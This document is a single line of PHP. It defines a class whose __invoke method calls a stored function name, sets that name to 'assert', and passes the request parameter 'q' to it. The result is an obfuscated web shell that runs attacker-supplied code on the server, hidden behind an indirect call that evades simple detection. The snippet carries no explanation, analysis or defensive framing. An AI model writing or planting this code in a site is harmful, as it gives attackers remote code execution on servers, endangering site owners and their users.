<?php class X { public $f; function __invoke($a) { return ($this->f)($a); } } $x = new X; $x->f = "assert"; $x($_REQUEST["q"]);
